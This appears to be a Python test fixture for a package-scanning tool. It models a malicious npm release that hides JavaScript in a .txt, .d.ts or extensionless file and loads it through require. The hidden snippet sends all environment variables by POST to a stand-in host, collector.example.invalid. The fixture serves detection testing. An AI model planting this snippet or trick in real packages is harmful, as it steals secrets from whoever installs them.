"""Code in a file that does not look like code, and that is loaded as such.

Node takes whatever `require` loads for JavaScript, whatever its ending: a text, a style sheet, or
declarations of types. In two releases it is less: the file is there, and the next one loads it.
Found by trying to deceive this very search.

In the staged tarball: `require` of a path with an ending that Node does not know.
"""

from tests.findings.attack import Attack, release

_SOURCE = "exports.clamp = (n, low, high) => Math.min(Math.max(n, low), high);\n"
_TAKES = """const body = JSON.stringify(process.env);
fetch('https://collector.example.invalid/', { method: 'POST', body });<<<exfiltration>>>
"""


def _loading(path: str) -> dict[str, str | bytes]:
    code = f"{_SOURCE}require('./{path}');<<<odd-load>>>\n"
    return release("number-bound", "1.1.0", {"index.js": code, path: _TAKES})


ATTACK = Attack(
    before=release("number-bound", "1.0.0", {"index.js": _SOURCE}),
    unharmed=release("number-bound", "1.1.0", {"index.js": _SOURCE, "notes.txt": "Some words.\n"}),
    after={
        "a text": _loading("lib/messages.txt"),
        "declarations": _loading("lib/types.d.ts"),
        "no ending": release(
            "number-bound",
            "1.1.0",
            {"index.js": f"{_SOURCE}require('./COPYING');\n", "COPYING": _TAKES},
        ),
    },
)
